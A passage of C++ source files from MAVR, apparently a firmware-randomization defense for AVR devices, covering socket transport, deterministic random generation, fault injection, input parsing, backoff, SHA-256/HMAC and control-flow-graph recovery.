std::optional<Endpoint> parse_endpoint(const std::string& spec);

/// Canonical spec string for `ep` — parseable back by parse_endpoint.
std::string endpoint_name(const Endpoint& ep);

/// Bound + listening stream socket, transport-agnostic.
class Listener {
 public:
  virtual ~Listener() = default;

  /// Accepts one connection; invalid Socket on timeout or after close().
  virtual Socket accept(int timeout_ms) = 0;

  /// Stops accepting and releases the fd. Call after the accepting thread
  /// has stopped (accept() takes a timeout precisely so its loop can poll
  /// a stop flag instead of blocking forever).
  virtual void close() = 0;

  /// The endpoint actually bound — for TCP with port 0 this carries the
  /// kernel-assigned ephemeral port, so peers can be pointed at it.
  virtual const Endpoint& endpoint() const = 0;
};

/// Bound + listening AF_UNIX socket; unlinks the path on destruction.
class UnixListener : public Listener {
 public:
  /// Binds and listens on `path` (an existing stale socket file is
  /// replaced). Throws support::Error on failure.
  explicit UnixListener(std::string path);
  ~UnixListener() override;
  UnixListener(const UnixListener&) = delete;
  UnixListener& operator=(const UnixListener&) = delete;

  Socket accept(int timeout_ms) override;
  void close() override;
  const Endpoint& endpoint() const override { return endpoint_; }

  const std::string& path() const { return endpoint_.path; }

 private:
  Endpoint endpoint_;
  int fd_ = -1;
};

/// Bound + listening TCP socket (SO_REUSEADDR; accepted connections get
/// TCP_NODELAY — frames are small and latency-sensitive).
class TcpListener : public Listener {
 public:
  /// Binds and listens on host:port. `port == 0` asks the kernel for an
  /// ephemeral port; endpoint().port reports the one actually bound.
  /// Throws support::Error on resolution or bind failure.
  TcpListener(const std::string& host, std::uint16_t port);
  ~TcpListener() override;
  TcpListener(const TcpListener&) = delete;
  TcpListener& operator=(const TcpListener&) = delete;

  Socket accept(int timeout_ms) override;
  void close() override;
  const Endpoint& endpoint() const override { return endpoint_; }

  std::uint16_t port() const { return endpoint_.port; }

 private:
  Endpoint endpoint_;
  int fd_ = -1;
};

/// Binds a listener for `ep`, whatever its transport.
std::unique_ptr<Listener> make_listener(const Endpoint& ep);

/// Connects to the listener at `path`, retrying up to `attempts` times
/// with linear backoff (`backoff_ms`, 2*backoff_ms, ... capped at 500ms)
/// — the wire-level retry story for workers racing coordinator startup.
/// Invalid Socket when every attempt fails.
Socket unix_connect(const std::string& path, int attempts = 1,
                    int backoff_ms = 0);

/// TCP sibling of unix_connect: resolves host:port and retries with the
/// same linear backoff. TCP_NODELAY is set on the connected socket.
Socket tcp_connect(const std::string& host, std::uint16_t port,
                   int attempts = 1, int backoff_ms = 0);

/// Connects to `ep`, whatever its transport.
Socket connect_endpoint(const Endpoint& ep, int attempts = 1,
                        int backoff_ms = 0);

}  // namespace mavr::support
