// Minimal AF_UNIX stream transport for the campaignd coordinator/worker
// split (DESIGN.md §12).
//
// Deliberately local-machine-only: the service's unit of distribution is a
// worker *process*, and a filesystem socket gives process isolation, a
// namable rendezvous point, and kill-driven connection teardown (a dead
// worker's socket closes, which is the coordinator's reassignment signal)
// without opening a network listener. The API is three pieces: an RAII fd
// (`Socket`) with exact-length timed I/O, a bound listener
// (`UnixListener`), and a retrying connect with linear backoff.
#pragma once

#include <cstddef>
#include <cstdint>
#include <span>
#include <string>
#include <utility>

namespace mavr::support {

/// Outcome of a timed read. kTimeout only when *nothing* arrived before
/// the deadline; bytes followed by silence or EOF is kClosed (the stream
/// is mid-frame and unusable).
enum class IoStatus { kOk, kTimeout, kClosed };

/// Owning wrapper over a connected stream-socket fd. Move-only.
class Socket {
 public:
  Socket() = default;
  explicit Socket(int fd) : fd_(fd) {}
  ~Socket() { close(); }
  Socket(Socket&& other) noexcept : fd_(other.release()) {}
  Socket& operator=(Socket&& other) noexcept;
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;

  bool valid() const { return fd_ >= 0; }
  int fd() const { return fd_; }
  int release();
  void close();

  /// Writes all of `data`; false on any error (peer gone). Never raises
  /// SIGPIPE.
  bool send_all(std::span<const std::uint8_t> data);

  /// Reads exactly `n` bytes. `timeout_ms < 0` waits forever.
  IoStatus recv_exact(std::uint8_t* dst, std::size_t n, int timeout_ms);

  /// Connected AF_UNIX socketpair (in-process protocol tests).
  static std::pair<Socket, Socket> make_pair();

 private:
  int fd_ = -1;
};

/// Bound + listening AF_UNIX socket; unlinks the path on destruction.
class UnixListener {
 public:
  /// Binds and listens on `path` (an existing stale socket file is
  /// replaced). Throws support::Error on failure.
  explicit UnixListener(std::string path);
  ~UnixListener();
  UnixListener(const UnixListener&) = delete;
  UnixListener& operator=(const UnixListener&) = delete;

  /// Accepts one connection; invalid Socket on timeout or after close().
  Socket accept(int timeout_ms);

  /// Stops accepting and releases the fd. Call after the accepting thread
  /// has stopped (accept() takes a timeout precisely so its loop can poll
  /// a stop flag instead of blocking forever).
  void close();

  const std::string& path() const { return path_; }

 private:
  std::string path_;
  int fd_ = -1;
};

/// Connects to the listener at `path`, retrying up to `attempts` times
/// with linear backoff (`backoff_ms`, 2*backoff_ms, ... capped at 500ms)
/// — the wire-level retry story for workers racing coordinator startup.
/// Invalid Socket when every attempt fails.
Socket unix_connect(const std::string& path, int attempts = 1,
                    int backoff_ms = 0);

}  // namespace mavr::support
