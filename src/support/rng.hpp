// Deterministic random number generation.
//
// Every stochastic component in MAVR (randomizer permutations, firmware
// generator, Monte-Carlo security evaluation) draws from a seeded Rng so
// experiments reproduce bit-for-bit.
#pragma once

#include <cstdint>
#include <vector>

namespace mavr::support {

/// xoshiro256** PRNG. Not cryptographic — the paper's security argument
/// rests on permutation count, not generator strength, and determinism is
/// required for the reproduction harness.
class Rng {
 public:
  explicit Rng(std::uint64_t seed);

  /// Next raw 64-bit output.
  std::uint64_t next();

  /// Uniform integer in [0, bound) using rejection sampling (unbiased).
  std::uint64_t below(std::uint64_t bound);

  /// Uniform integer in [lo, hi] inclusive.
  std::uint64_t range(std::uint64_t lo, std::uint64_t hi);

  /// Uniform double in [0, 1).
  double unit();

  /// Bernoulli draw with probability `p` of true.
  bool chance(double p);

  /// In-place Fisher–Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& items) {
    for (std::size_t i = items.size(); i > 1; --i) {
      std::size_t j = static_cast<std::size_t>(below(i));
      using std::swap;
      swap(items[i - 1], items[j]);
    }
  }

  /// Random permutation of [0, n).
  std::vector<std::size_t> permutation(std::size_t n);

 private:
  std::uint64_t s_[4];
};

}  // namespace mavr::support
