// Deterministic random number generation.
//
// Every stochastic component in MAVR (randomizer permutations, firmware
// generator, Monte-Carlo security evaluation) draws from a seeded Rng so
// experiments reproduce bit-for-bit.
#pragma once

#include <cstdint>
#include <vector>

namespace mavr::support {

/// xoshiro256** PRNG. Not cryptographic — the paper's security argument
/// rests on permutation count, not generator strength, and determinism is
/// required for the reproduction harness.
class Rng {
 public:
  explicit Rng(std::uint64_t seed);

  /// Seed of child stream `index` derived from `root` by a splitmix64
  /// walk. Distinct indices always map to distinct child seeds (splitmix64
  /// is a bijection of its counter), and the root is whitened first so
  /// adjacent roots do not produce related families.
  static std::uint64_t derive_seed(std::uint64_t root, std::uint64_t index);

  /// Independent child generator for stream `index`, derived from this
  /// generator's construction seed (not its current state): forking is
  /// order-free, so N workers can fork trial streams concurrently and the
  /// draws are identical no matter which worker forks first. The campaign
  /// engine's determinism contract rests on this.
  Rng fork(std::uint64_t index) const;

  /// Next raw 64-bit output.
  std::uint64_t next();

  /// Uniform integer in [0, bound) using rejection sampling (unbiased).
  std::uint64_t below(std::uint64_t bound);

  /// Uniform integer in [lo, hi] inclusive.
  std::uint64_t range(std::uint64_t lo, std::uint64_t hi);

  /// Uniform double in [0, 1).
  double unit();

  /// Bernoulli draw with probability `p` of true.
  bool chance(double p);

  /// In-place Fisher–Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& items) {
    for (std::size_t i = items.size(); i > 1; --i) {
      std::size_t j = static_cast<std::size_t>(below(i));
      using std::swap;
      swap(items[i - 1], items[j]);
    }
  }

  /// Random permutation of [0, n).
  std::vector<std::size_t> permutation(std::size_t n);

 private:
  std::uint64_t seed_;  ///< construction seed — fork() derives children from it
  std::uint64_t s_[4];
};

}  // namespace mavr::support
