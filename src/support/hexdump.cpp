#include "support/hexdump.hpp"

#include <cstdio>

namespace mavr::support {

std::string hexdump(std::span<const std::uint8_t> data, std::uint32_t base,
                    std::size_t width) {
  std::string out;
  char buf[32];
  for (std::size_t i = 0; i < data.size(); i += width) {
    std::snprintf(buf, sizeof buf, "0x%06X:", base + static_cast<std::uint32_t>(i));
    out += buf;
    for (std::size_t j = i; j < i + width && j < data.size(); ++j) {
      std::snprintf(buf, sizeof buf, " 0x%02X", data[j]);
      out += buf;
    }
    out += '\n';
  }
  return out;
}

std::string hex_byte(std::uint8_t byte) {
  char buf[8];
  std::snprintf(buf, sizeof buf, "0x%02X", byte);
  return buf;
}

std::string hex_value(std::uint32_t value) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%X", value);
  return buf;
}

}  // namespace mavr::support
