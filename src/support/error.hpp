// Error handling primitives shared by every MAVR module.
//
// Policy (see DESIGN.md): broken invariants and programmer misuse throw;
// expected runtime failures (parse errors, device faults) are reported
// through status-returning APIs local to each module.
#pragma once

#include <sstream>
#include <stdexcept>
#include <string>

namespace mavr::support {

/// Base class for all exceptions thrown by the MAVR library.
class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

/// Thrown when a caller violates an API precondition.
class PreconditionError : public Error {
 public:
  explicit PreconditionError(const std::string& what) : Error(what) {}
};

/// Thrown when an internal invariant is found broken (a bug in MAVR itself).
class InvariantError : public Error {
 public:
  explicit InvariantError(const std::string& what) : Error(what) {}
};

/// Thrown when input data (binary image, HEX file, packet) is malformed.
class DataError : public Error {
 public:
  explicit DataError(const std::string& what) : Error(what) {}
};

namespace detail {

[[noreturn]] inline void fail_check(const char* kind, const char* expr,
                                    const char* file, int line,
                                    const std::string& msg) {
  std::ostringstream os;
  os << kind << " failed: (" << expr << ") at " << file << ":" << line;
  if (!msg.empty()) os << " — " << msg;
  if (std::string(kind) == "MAVR_REQUIRE") throw PreconditionError(os.str());
  throw InvariantError(os.str());
}

}  // namespace detail

}  // namespace mavr::support

/// Precondition check: throws PreconditionError when `expr` is false.
#define MAVR_REQUIRE(expr, msg)                                             \
  do {                                                                      \
    if (!(expr))                                                            \
      ::mavr::support::detail::fail_check("MAVR_REQUIRE", #expr, __FILE__,  \
                                          __LINE__, (msg));                 \
  } while (0)

/// Internal invariant check: throws InvariantError when `expr` is false.
#define MAVR_CHECK(expr, msg)                                               \
  do {                                                                      \
    if (!(expr))                                                            \
      ::mavr::support::detail::fail_check("MAVR_CHECK", #expr, __FILE__,    \
                                          __LINE__, (msg));                 \
  } while (0)
