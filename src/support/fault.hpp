// Deterministic fault-injection plane for the hardware boundaries the
// MAVR defense crosses (DESIGN.md §9).
//
// The self-healing reflash pipeline (defense::MasterProcessor) is only
// credible if it survives faults on every link it depends on:
//  * external-flash container reads (bit flips, stuck bytes),
//  * the master ↔ application serial page stream (corrupted page bytes,
//    dropped pages / bootloader timeouts),
//  * internal-flash page programming (program-pulse failures, wear-out
//    coupled to the 10,000-cycle endurance counter, paper §VI-A).
//
// One FaultPlane is shared by all three attachment points of a single
// board (ExternalFlash, MasterProcessor, sim::Board). Each fault site
// draws from its own child stream forked off the plane's Rng by site
// index (support::Rng::fork — a pure function of the construction seed),
// so the schedule at one site never depends on traffic at another and a
// campaign trial's fault schedule is bit-reproducible at any jobs count.
#pragma once

#include <cstdint>
#include <span>

#include "support/rng.hpp"

namespace mavr::support {

/// Per-site fault probabilities. All zero (never injects) by default.
struct FaultConfig {
  // External-flash reads (applied per byte read).
  double read_bit_flip = 0;    ///< one random bit of the byte is flipped
  double read_stuck_byte = 0;  ///< the byte reads back as erased 0xFF

  // Serial page stream, master → application bootloader (per page sent).
  double page_corrupt = 0;  ///< one transit byte is bit-flipped
  double page_drop = 0;     ///< page never arrives (bootloader ack timeout)

  // Internal-flash page programming (per page programmed).
  double program_fail = 0;  ///< program pulse fails, page left erased
  /// Wear-out model: once the part has seen `wearout_threshold` erase
  /// cycles (0 disables), every page program additionally fails with
  /// probability `wearout_fail`.
  std::uint32_t wearout_threshold = 0;
  double wearout_fail = 0;

  /// Uniform fault pressure: per-page sites take `rate` directly; the
  /// per-byte external-read sites are scaled down so a whole-container
  /// read exerts fault pressure comparable to a page transfer.
  static FaultConfig uniform(double rate);

  bool any() const {
    return read_bit_flip > 0 || read_stuck_byte > 0 || page_corrupt > 0 ||
           page_drop > 0 || program_fail > 0 ||
           (wearout_threshold > 0 && wearout_fail > 0);
  }
};

/// Fate of one serial page transfer.
enum class PageTransfer {
  kOk,         ///< page arrived intact
  kCorrupted,  ///< page arrived with a flipped byte (caller's buffer mutated)
  kDropped,    ///< page never arrived — the bootloader ack timed out
};

/// Tally of injected faults, per site (read-only observability for tests,
/// campaigns and benches).
struct FaultStats {
  std::uint64_t read_bit_flips = 0;
  std::uint64_t read_stuck_bytes = 0;
  std::uint64_t pages_corrupted = 0;
  std::uint64_t pages_dropped = 0;
  std::uint64_t programs_failed = 0;
  std::uint64_t wearout_failures = 0;

  std::uint64_t total() const {
    return read_bit_flips + read_stuck_bytes + pages_corrupted +
           pages_dropped + programs_failed + wearout_failures;
  }
};

class FaultPlane {
 public:
  /// Disarmed plane: never injects and never draws from its streams, so an
  /// attached-but-disarmed plane is behaviorally invisible.
  FaultPlane() : FaultPlane(FaultConfig{}, Rng(0)) {}

  /// Armed plane. Site streams are forked off `rng` by site index.
  FaultPlane(const FaultConfig& config, const Rng& rng);

  bool armed() const { return armed_; }
  const FaultConfig& config() const { return config_; }
  const FaultStats& stats() const { return stats_; }

  /// External-flash read filter: returns the (possibly corrupted) byte.
  std::uint8_t filter_read(std::uint8_t value);

  /// Draws the fate of one serial page transfer. On kCorrupted, one byte
  /// of `page` has been bit-flipped in place; on kDropped the buffer is
  /// untouched and the page must be treated as never written.
  PageTransfer filter_page(std::span<std::uint8_t> page);

  /// Internal-flash program pulse for one page given the part's current
  /// wear (completed erase cycles). False = the pulse failed and the page
  /// retains its erased contents.
  bool program_succeeds(std::uint32_t wear_cycles);

 private:
  bool armed_;
  FaultConfig config_;
  FaultStats stats_;
  Rng read_rng_;     ///< fork index 0
  Rng page_rng_;     ///< fork index 1
  Rng program_rng_;  ///< fork index 2
};

}  // namespace mavr::support
