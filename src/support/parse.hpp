// Strict numeric parsing for CLI flags.
//
// The strto* family fails open for command-line use: with a null endptr,
// "1e6" parses as 1, "xyz" as 0, and "-1" wraps to UINT64_MAX — all
// silently. These helpers consume the *entire* token or return nullopt, so
// a tool can report the offending flag instead of running the wrong
// campaign. Shared by mavr-campaign and mavr-campaignd.
#pragma once

#include <cstdint>
#include <optional>
#include <string_view>

namespace mavr::support {

/// Unsigned 64-bit integer. Accepts decimal plus 0x/0 prefixes (strtoull
/// base 0); rejects empty input, whitespace, any sign, trailing junk
/// ("1e6", "10k"), and out-of-range values.
std::optional<std::uint64_t> parse_u64(std::string_view text);

/// parse_u64 additionally constrained to [lo, hi] (inclusive).
std::optional<std::uint64_t> parse_u64_in(std::string_view text,
                                          std::uint64_t lo, std::uint64_t hi);

/// Unsigned 32-bit integer (parse_u64 range-checked to u32).
std::optional<std::uint32_t> parse_u32(std::string_view text);

/// Finite double. Rejects empty input, leading whitespace, trailing junk,
/// overflow to infinity, and nan/inf spellings.
std::optional<double> parse_f64(std::string_view text);

}  // namespace mavr::support
