// SHA-256 (FIPS 180-4) and HMAC-SHA-256 (RFC 2104), dependency-free.
//
// Exists for the campaignd TCP handshake (DESIGN.md §13): a TCP listener
// — unlike an AF_UNIX path — has no filesystem permissions guarding it,
// so workers and clients prove knowledge of a shared token via an HMAC
// challenge-response before any work is assigned. CRC-32 (the framing
// checksum) is linear and trivially forgeable, hence a real hash here.
#pragma once

#include <array>
#include <cstdint>
#include <span>

namespace mavr::support {

using Sha256Digest = std::array<std::uint8_t, 32>;

/// Incremental SHA-256 accumulator.
class Sha256 {
 public:
  Sha256();
  void update(std::span<const std::uint8_t> data);
  /// Finalizes and returns the digest. The accumulator is consumed:
  /// further update() calls are a programmer error (MAVR_REQUIRE).
  Sha256Digest finish();

 private:
  void compress(const std::uint8_t* block);

  std::array<std::uint32_t, 8> state_;
  std::array<std::uint8_t, 64> buffer_;
  std::uint64_t total_bytes_ = 0;
  std::size_t buffered_ = 0;
  bool finished_ = false;
};

/// One-shot SHA-256.
Sha256Digest sha256(std::span<const std::uint8_t> data);

/// HMAC-SHA-256 over `msg` with `key` (any length; keys longer than the
/// 64-byte block are pre-hashed per RFC 2104).
Sha256Digest hmac_sha256(std::span<const std::uint8_t> key,
                         std::span<const std::uint8_t> msg);

/// Constant-time digest comparison — an authentication check must not
/// leak how many leading bytes matched through its timing.
bool digest_equal(const Sha256Digest& a, const Sha256Digest& b);

}  // namespace mavr::support
