// Hexdump formatting used by the Fig. 6 stack-progression output and by
// diagnostic tooling.
#pragma once

#include <cstdint>
#include <span>
#include <string>

namespace mavr::support {

/// Formats `data` as `0xADDR: b0 b1 ...` rows of `width` bytes, with `base`
/// as the address of the first byte — the exact layout of Fig. 6 in the
/// paper.
std::string hexdump(std::span<const std::uint8_t> data, std::uint32_t base,
                    std::size_t width = 8);

/// Formats a single byte as two uppercase hex digits with 0x prefix.
std::string hex_byte(std::uint8_t byte);

/// Formats a value as 0x-prefixed uppercase hex with minimal digits.
std::string hex_value(std::uint32_t value);

}  // namespace mavr::support
