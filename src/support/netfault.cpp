#include "support/netfault.hpp"

#include <atomic>
#include <mutex>

namespace mavr::support {

NetFaultConfig NetFaultConfig::uniform(double rate) {
  NetFaultConfig cfg;
  cfg.frame_drop = rate;
  cfg.byte_corrupt = rate;
  cfg.short_write = rate;
  // A half-open hang is not recoverable in-band: the peer only notices at
  // its own reply timeout, so each one costs a full timeout of wall-clock.
  // At the rates the chaos suite sweeps (1-5%) an equal half-open rate
  // would dominate every run; a tenth keeps the class present without
  // letting it mask the cheap faults.
  cfg.half_open = rate / 10.0;
  cfg.delay = rate;
  return cfg;
}

struct NetFaultPlane::Impl {
  NetFaultConfig config;
  Rng root;
  std::mutex mu;                    // guards next_connection
  std::uint64_t next_connection = 0;

  std::atomic<std::uint64_t> frames_dropped{0};
  std::atomic<std::uint64_t> frames_corrupted{0};
  std::atomic<std::uint64_t> short_writes{0};
  std::atomic<std::uint64_t> half_opens{0};
  std::atomic<std::uint64_t> delays{0};
  std::atomic<std::uint64_t> connections{0};

  Impl(const NetFaultConfig& cfg, const Rng& rng) : config(cfg), root(rng) {}
};

namespace {

/// One connection's fault schedule: independent send/recv draw streams
/// forked off the plane's root, tallying into the plane's counters. The
/// half-open flag is sticky — once the cable is "pulled" the connection
/// stays silent in both directions until torn down.
class ConnectionFaults : public SocketFaultHook {
 public:
  ConnectionFaults(NetFaultPlane::Impl* plane, Rng send_rng, Rng recv_rng)
      : plane_(plane),
        send_rng_(std::move(send_rng)),
        recv_rng_(std::move(recv_rng)) {}

  SendPlan plan_send(std::size_t len) override {
    SendPlan plan;
    const NetFaultConfig& cfg = plane_->config;
    if (hung_.load(std::memory_order_relaxed)) {
      plan.half_open = true;
      return plan;
    }
    if (!cfg.inject_send) return plan;
    std::lock_guard<std::mutex> lock(send_mu_);
    if (cfg.delay > 0 && send_rng_.chance(cfg.delay)) {
      plan.delay_ms = static_cast<std::uint32_t>(
          send_rng_.range(1, cfg.delay_max_ms < 1 ? 1 : cfg.delay_max_ms));
      plane_->delays.fetch_add(1, std::memory_order_relaxed);
    }
    if (cfg.half_open > 0 && send_rng_.chance(cfg.half_open)) {
      hung_.store(true, std::memory_order_relaxed);
      plan.half_open = true;
      plane_->half_opens.fetch_add(1, std::memory_order_relaxed);
      return plan;
    }
    if (cfg.frame_drop > 0 && send_rng_.chance(cfg.frame_drop)) {
      plan.drop = true;
      plane_->frames_dropped.fetch_add(1, std::memory_order_relaxed);
      return plan;
    }
    if (len > 0 && cfg.byte_corrupt > 0 && send_rng_.chance(cfg.byte_corrupt)) {
      plan.corrupt_at = static_cast<std::size_t>(send_rng_.below(len));
      // Flip one bit, never zero: mask 0 would be a no-op "fault".
      plan.corrupt_mask =
          static_cast<std::uint8_t>(1u << send_rng_.below(8));
      plane_->frames_corrupted.fetch_add(1, std::memory_order_relaxed);
      return plan;
    }
    if (len > 1 && cfg.short_write > 0 && send_rng_.chance(cfg.short_write)) {
      plan.truncate_to = static_cast<std::size_t>(send_rng_.range(1, len - 1));
      plane_->short_writes.fetch_add(1, std::memory_order_relaxed);
    }
    return plan;
  }

  std::uint32_t plan_recv_delay() override {
    const NetFaultConfig& cfg = plane_->config;
    if (!cfg.inject_recv || cfg.delay <= 0) return 0;
    std::lock_guard<std::mutex> lock(recv_mu_);
    if (!recv_rng_.chance(cfg.delay)) return 0;
    plane_->delays.fetch_add(1, std::memory_order_relaxed);
    return static_cast<std::uint32_t>(
        recv_rng_.range(1, cfg.delay_max_ms < 1 ? 1 : cfg.delay_max_ms));
  }

  bool recv_hung() override { return hung_.load(std::memory_order_relaxed); }

 private:
  NetFaultPlane::Impl* plane_;
  std::mutex send_mu_;  // Rng draws are stateful; sends may race recvs
  std::mutex recv_mu_;
  Rng send_rng_;
  Rng recv_rng_;
  std::atomic<bool> hung_{false};
};

}  // namespace

NetFaultPlane::NetFaultPlane(const NetFaultConfig& config, const Rng& rng)
    : impl_(std::make_unique<Impl>(config, rng)) {}

NetFaultPlane::~NetFaultPlane() = default;

bool NetFaultPlane::armed() const { return impl_->config.any(); }

const NetFaultConfig& NetFaultPlane::config() const { return impl_->config; }

std::shared_ptr<SocketFaultHook> NetFaultPlane::fork_connection() {
  if (!armed()) return nullptr;
  std::uint64_t k;
  {
    std::lock_guard<std::mutex> lock(impl_->mu);
    k = impl_->next_connection++;
  }
  impl_->connections.fetch_add(1, std::memory_order_relaxed);
  return std::make_shared<ConnectionFaults>(
      impl_.get(), impl_->root.fork(2 * k), impl_->root.fork(2 * k + 1));
}

void NetFaultPlane::arm(Socket& sock) {
  if (!sock.valid()) return;
  if (auto hook = fork_connection()) sock.set_fault_hook(std::move(hook));
}

NetFaultStats NetFaultPlane::stats() const {
  NetFaultStats out;
  out.frames_dropped = impl_->frames_dropped.load(std::memory_order_relaxed);
  out.frames_corrupted =
      impl_->frames_corrupted.load(std::memory_order_relaxed);
  out.short_writes = impl_->short_writes.load(std::memory_order_relaxed);
  out.half_opens = impl_->half_opens.load(std::memory_order_relaxed);
  out.delays = impl_->delays.load(std::memory_order_relaxed);
  out.connections = impl_->connections.load(std::memory_order_relaxed);
  return out;
}

Socket FaultyListener::accept(int timeout_ms) {
  Socket sock = inner_->accept(timeout_ms);
  if (sock.valid() && plane_ != nullptr) plane_->arm(sock);
  return sock;
}

}  // namespace mavr::support
