#include "support/parse.hpp"

#include <cctype>
#include <cerrno>
#include <cmath>
#include <cstdlib>
#include <limits>
#include <string>

namespace mavr::support {

namespace {

// strtoull/strtod skip leading whitespace and accept signs; a flag value
// with either is a user error, not a number.
bool rejected_prefix(std::string_view text) {
  return text.empty() ||
         std::isspace(static_cast<unsigned char>(text.front())) != 0 ||
         text.front() == '+' || text.front() == '-';
}

}  // namespace

std::optional<std::uint64_t> parse_u64(std::string_view text) {
  if (rejected_prefix(text)) return std::nullopt;
  const std::string buf(text);  // strtoull needs a NUL terminator
  char* end = nullptr;
  errno = 0;
  const unsigned long long value = std::strtoull(buf.c_str(), &end, 0);
  if (errno == ERANGE || end != buf.c_str() + buf.size()) return std::nullopt;
  return static_cast<std::uint64_t>(value);
}

std::optional<std::uint64_t> parse_u64_in(std::string_view text,
                                          std::uint64_t lo, std::uint64_t hi) {
  const auto value = parse_u64(text);
  if (!value || *value < lo || *value > hi) return std::nullopt;
  return value;
}

std::optional<std::uint32_t> parse_u32(std::string_view text) {
  const auto value =
      parse_u64_in(text, 0, std::numeric_limits<std::uint32_t>::max());
  if (!value) return std::nullopt;
  return static_cast<std::uint32_t>(*value);
}

std::optional<double> parse_f64(std::string_view text) {
  if (rejected_prefix(text)) return std::nullopt;
  const std::string buf(text);
  char* end = nullptr;
  errno = 0;
  const double value = std::strtod(buf.c_str(), &end);
  if (errno == ERANGE || end != buf.c_str() + buf.size()) return std::nullopt;
  if (!std::isfinite(value)) return std::nullopt;  // rejects "nan"/"inf" too
  return value;
}

}  // namespace mavr::support
