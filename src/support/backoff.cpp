#include "support/backoff.hpp"

#include <algorithm>

namespace mavr::support {

int Backoff::next_delay_ms() {
  // Ceiling grows 2x per failure until it pins at max_ms_. The shift is
  // clamped so a long outage cannot overflow the doubling.
  const int n = std::min(failures_, 20);
  ++failures_;
  const std::int64_t ceiling =
      std::min<std::int64_t>(static_cast<std::int64_t>(base_ms_) << n,
                             max_ms_);
  const std::int64_t floor = std::max<std::int64_t>(1, base_ms_ / 2);
  if (ceiling <= floor) return static_cast<int>(ceiling);
  return static_cast<int>(
      rng_.range(static_cast<std::uint64_t>(floor),
                 static_cast<std::uint64_t>(ceiling)));
}

}  // namespace mavr::support
