// Exponential backoff with deterministic jitter — the shared retry pacing
// for every reconnect/restart loop in the campaign service (DESIGN.md §14).
//
// Three call sites share this policy: a client re-polling a coordinator
// across transient connection failures, a worker re-establishing its
// coordinator connection, and the supervisor respawning crashed worker
// processes. All three have the same failure mode if they retry naively:
// N peers that lost the same coordinator at the same instant reconnect at
// the same instant, forever ("thundering herd"). Full jitter breaks the
// synchronization: the nth delay is drawn uniformly from
// [base/2, base * 2^n], capped at `max_ms` — the deterministic Rng means a
// test can pin the exact schedule while distinct seeds (one per peer)
// de-correlate real fleets.
#pragma once

#include <cstdint>

#include "support/rng.hpp"

namespace mavr::support {

class Backoff {
 public:
  /// `base_ms` seeds the first delay's range, `max_ms` caps the growth,
  /// `seed` fixes the jitter stream (peers should use distinct seeds).
  Backoff(int base_ms, int max_ms, std::uint64_t seed)
      : base_ms_(base_ms < 1 ? 1 : base_ms),
        max_ms_(max_ms < base_ms_ ? base_ms_ : max_ms),
        rng_(seed) {}

  /// Delay before the next retry, in ms: uniform in [base/2, base * 2^n]
  /// where n is the number of consecutive failures so far, capped at
  /// max_ms. Advances the failure count.
  int next_delay_ms();

  /// Consecutive failures recorded since the last reset().
  int failures() const { return failures_; }

  /// Call after a success: the next failure starts the ladder over.
  void reset() { failures_ = 0; }

 private:
  int base_ms_;
  int max_ms_;
  int failures_ = 0;
  Rng rng_;
};

}  // namespace mavr::support
