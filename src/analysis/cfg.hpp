// Control-flow graph recovery over a region of AVR flash (DESIGN.md §15).
//
// AVR's two-byte instruction alignment makes one linear sweep from the
// region base visit every instruction — the same property the detect
// engine's CFI rebuild and attack::GadgetFinder already lean on. On top
// of that sweep this module recovers *structure*: basic blocks split at
// branch targets and terminators, intra-region edges, call sites, and the
// indirect branches no static pass can resolve from the code alone (the
// analysis plane resolves the provable subset later, from pointer-slot
// contents).
//
// A region is any contiguous byte range the caller treats as one code
// unit: a single function body (per-function analysis, cacheable across
// randomization because offsets are position-independent) or the whole
// executable text (mavr-objdump --cfg).
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <vector>

namespace mavr::analysis {

/// Why a basic block stops where it does.
enum class BlockEnd : std::uint8_t {
  kFallThrough,   ///< next instruction is a branch target (leader split)
  kJump,          ///< rjmp/jmp
  kBranch,        ///< brbs/brbc: taken edge + fall-through edge
  kSkip,          ///< cpse/sbrc/sbrs/sbic/sbis: skip edge + fall-through
  kRet,           ///< ret
  kReti,          ///< reti
  kIndirectJump,  ///< ijmp/eijmp — target not in the code
  kHalt,          ///< break (stops the core)
  kFault,         ///< invalid encoding — executing it faults
  kTruncated,     ///< 32-bit instruction whose second word is past the end
  kFallsOffEnd,   ///< last instruction falls through into whatever follows
};

const char* block_end_name(BlockEnd end);

/// One basic block: [start, end) in region-relative byte offsets.
struct BasicBlock {
  std::uint32_t start = 0;
  std::uint32_t end = 0;
  std::uint32_t n_instrs = 0;
  BlockEnd end_kind = BlockEnd::kFallThrough;
  /// Region-relative start offsets of successor blocks, ascending.
  std::vector<std::uint32_t> succs;
};

/// One call/rcall/icall/eicall instruction.
struct CallSite {
  std::uint32_t offset = 0;      ///< region-relative byte offset of the call
  std::uint32_t ret_offset = 0;  ///< offset of the instruction after it
  bool indirect = false;         ///< icall/eicall
  /// Absolute byte target for direct calls (call: absolute by encoding;
  /// rcall: region base + relative resolved by the builder). -1 = indirect.
  std::int64_t target = -1;
};

/// A direct jmp/rjmp/branch whose target lies outside the region, or
/// inside it but not on an instruction boundary (a jump into data).
struct JumpOut {
  std::uint32_t offset = 0;      ///< region-relative offset of the jump
  std::int64_t target = 0;       ///< absolute byte target (may be negative
                                 ///< for an rjmp reaching below the base)
};

/// CFG of one contiguous code region.
struct RegionCfg {
  std::uint32_t base = 0;  ///< absolute byte address of offset 0
  std::uint32_t size = 0;  ///< region length in bytes
  std::vector<BasicBlock> blocks;          ///< ascending by start
  std::vector<CallSite> calls;             ///< ascending by offset
  std::vector<std::uint32_t> indirect_jumps;  ///< ijmp/eijmp offsets
  std::vector<std::uint32_t> truncated;    ///< straddling-instruction offsets
  std::vector<JumpOut> jumps_out;          ///< ascending by offset

  /// Total intra-region edges (sum of succs).
  std::uint32_t n_edges() const;
};

/// Builds the CFG of `code`, a region whose first byte lives at absolute
/// address `base` (used only to compute absolute call/jump-out targets).
/// An empty region yields an empty CFG.
RegionCfg build_region_cfg(std::span<const std::uint8_t> code,
                           std::uint32_t base);

/// Stable text rendering (one block per line plus site lists) — the
/// format mavr-objdump --cfg prints and golden-file tests pin.
std::string format_cfg(const RegionCfg& cfg);

}  // namespace mavr::analysis
