#include "analysis/cfg.hpp"

#include <algorithm>
#include <cstdarg>
#include <cstdio>

#include "avr/decode.hpp"
#include "avr/instr.hpp"
